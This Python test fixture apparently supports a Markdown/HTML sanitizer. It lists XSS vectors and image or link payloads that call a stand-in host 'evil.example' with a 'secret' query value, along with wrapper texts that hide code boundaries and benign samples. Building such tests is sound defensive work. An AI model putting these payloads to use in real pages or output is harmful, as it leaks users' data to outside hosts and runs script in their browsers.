"""What makes a page fetch or run something, in every form that was thought of; and texts that must stay as they are."""

from __future__ import annotations

from collections.abc import Iterator

U = "https://evil.example/x?d=secret"

# Each fetches, runs, or would on a click; `{u}` is an address.
MARKDOWN = (
    "![a]({u})", "![a](<{u}>)", '![a]({u} "t")', "![a](\n{u}\n)", "![]({u})", "![a\nb]({u})", "![a [b] c]({u})",
    "![a][r]\n\n[r]: {u}", "[r]: {u}\n\n![a][r]", "![r][]\n\n[r]:\n{u}", "![r]\n\n[R]: <{u}> 't'", "![r]\n\n> [r]: {u}",
    "![a][r]\n\n> [r]:\n> {u}", "[![a]({u})](https://ok.example)", "[!\\[a\\]({u})](https://ok.example)", "> ![a]({u})",
    "- ![a]({u})", "| a |\n|---|\n| ![a]({u}) |", "[^1]\n\n[^1]: ![a]({u})", "# ![a]({u})", "*![a]({u})*", "![`a`]({u})",
    "![a](https&colon;//evil.example/x)", "![a](&#104;ttps://evil.example/x)", "![a](https:\\\\evil.example\\x)",
    "![a](//evil.example/x)", "![a](HTTPS://EVIL.example/x)", "![a](https://img.shields.io@evil.example/badge/x)",
    "![a](https://img.shields.io/badge/../endpoint?url={u})", "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))",
    "[a](java&Tab;script:alert(1))", "[a](&#106;avascript:alert(1))", "[a](<javascript:alert(1)>)", "<javascript:alert(1)>",
    "[a](\n> javascript:alert(1))", "[a][r]\n\n[r]: javascript:alert(1)", "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
)  # fmt: skip
HTML = (
    "<img src={u}>", '<IMG SRC="{u}">', "<img\nsrc='{u}'\n>", "<img/src={u}>", "<img srcset='{u} 1x'>", "<image src={u}>",
    "<svg><image href='{u}'/></svg>", "<svg><use href='{u}#a'/></svg>", "<svg><feImage href='{u}'/></svg>",
    "<svg><style>@import url({u})</style></svg>", "<iframe src='{u}'></iframe>", "<iframe srcdoc='<img src={u}>'></iframe>",
    "<object data='{u}'></object>", "<embed src='{u}'>", "<link rel=stylesheet href='{u}'>", "<link rel=preconnect href='{u}'>",
    "<style>body{{background:url({u})}}</style>", "<p style='background:url({u})'>a</p>", "<p style=\"background:u\\72l({u})\">a</p>",
    "<body background='{u}'>", "<table background='{u}'><tr><td>a</table>", "<video poster='{u}'></video>", "<video src='{u}'></video>",
    "<audio src='{u}'></audio>", "<picture><source srcset='{u}'><img></picture>", "<input type=image src='{u}'>",
    "<meta http-equiv=refresh content='0;url={u}'>", "<base href='https://evil.example/'><img src=x.png>",
    "<form action='javascript:alert(1)'><button>a</button></form>", "<button formaction='javascript:alert(1)'>a</button>",
    "<script>alert(1)</script>", "<script src='{u}'></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<details open ontoggle=alert(1)>a</details>", "<b onclick=alert(1)>a</b>", "<a href=javascript:alert(1)>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>", "<a href='&#106;avascript:alert(1)'>a</a>", "<a href=x ping='{u}'>a</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>a</text></a></svg>", "<math><mtext><img src='{u}'></math>",
    "<svg><set attributeName=href to='{u}'/></svg>", "<svg><animate attributeName=href values='{u}'/></svg>",
    "<noscript><img src='{u}'></noscript>", "<template><img src='{u}'></template><img src='{u}'>", "<b title='`'><img src='{u}'>`",
    "<b title='<img src={u}>'>", "<!--><img src='{u}'>-->", "<!-- ` --><img src='{u}'> `", "<?a ?><img src='{u}'>",
    "<div\nonclick=alert(1)>a</div>", "<pre title='\n\n' , onclick=alert(1)>a</pre>", "<x onfocus=alert(1) autofocus tabindex=0>a</x>",
    "<img src onerror /\" '\"= alt=alert(1)//\">", "</p title='><img src={u}>'>", "<portal src='{u}'>",
)  # fmt: skip
# Texts around a case that try to make it look like code, or hide where code ends; `{case}` is the case.
AROUND = (
    "{case}", "text {case} text", "a\n\n{case}\n\nb", "```\na\n```\n{case}", "`a` {case}", "\\`{case}`", "`{case}", "``{case}`",
    "<!--\n```\n-->\n{case}\n", "<div>\n```\n</div>\n\n{case}\n", "> ```\n{case}\n", "- ```\n{case}\n", "1. ```\n{case}\n",
    "- a\n\n  ```\n{case}\n", "````\n```\n````\n{case}", "~~~\n```\n~~~\n{case}", "``` `\n{case}\n", "$$\n```\n$$\n{case}\n",
    "<pre>\n\n```\n</pre>\n{case}\n", "a\n    {case}", "- a\n\n    {case}", "[^1]: a\n\n    {case}", "| a ` | {case} | ` |",
    "| a | b |\n|---|---|\n| ` | {case} ` |", "a `\n- {case} `", "https://a.example/` {case} `", "[a]:\n```\n{case}\n",
    "a\n2. ```\n{case}\n", "<b>a</b>\n```\n{case}\n```\n", "<details>\n<summary>a</summary>\n\n{case}\n</details>",
    "\u200b{case}", "text<br>{case}", "```a`b\n{case}\n", "   ```\n   a\n ```\n{case}", "<!-->\n```\n-->\n{case}",
)  # fmt: skip

BENIGN = (
    "Plain text, 1 < 2 and 3 > 2, a<b, x <y and z.", "List<String>, Vec<T>, Map<K, V>; <your-key>, <T>", "I <3 it",
    "[docs](https://docs.python.org/3/library/re.html#re.sub) and [b](../c.md) and [d](#e)", "see [1], [2]: both hold",
    "`<img src=https://evil.example/x>` and ``![a](https://evil.example/x)``", "array[0]: int, x[i](y), vec![1, 2]",
    "```html\n<script>alert(1)</script>\n<img src=https://evil.example/x>\n```\nafter",
    "1. Do this:\n   ```bash\n   curl <url> > out; echo '![a](https://evil.example/x)'\n   ```\n2. Done",
    "~~~\n![a](https://evil.example/x)\n~~~", "Text\n\n    <img src=https://evil.example/x>\n\nText",
    "<details>\n<summary>More</summary>\n\nBody **bold** H<sub>2</sub>O<br>\n\n</details>", "<!-- a comment -->\n\ntext",
    "![plot](figures/plot.png) ![p](sandbox:/mnt/data/plot.png)", "<https://example.org/a?b=c> https://example.org/?q=1 me@example.org",
    "[r]: https://example.org/docs\n\nSee [the docs][r].", "$$\n\\int_0^1 x\\,dx < \\infty\n$$\n\n```python\nx[0]('<b onclick=x>')\n```",
    '<a href="https://example.org/a">a</a> <img src="assets/a.png" width="70%"> <p align="center">a</p>',
    "![ok](https://img.shields.io/badge/-stable-lightgreen)", "| a | b |\n|---|---|\n| `x < y` | [c](https://example.org) |",
    "> quote\n> ```\n> <script>\n> ```\n\ntext", "Wow![1] \\[x^2\\] \\(y\\) [a]( https://example.org )", "",
)  # fmt: skip


def attacks() -> Iterator[str]:
    """Yield every case by itself, and some in every surrounding."""
    cases = [case.format(u=U) for case in (*MARKDOWN, *HTML)]
    yield from cases
    for case in (cases[0], cases[8], f"<img src={U}>", "<script>alert(1)</script>"):
        for around in AROUND[1:]:
            yield around.replace("{case}", case)
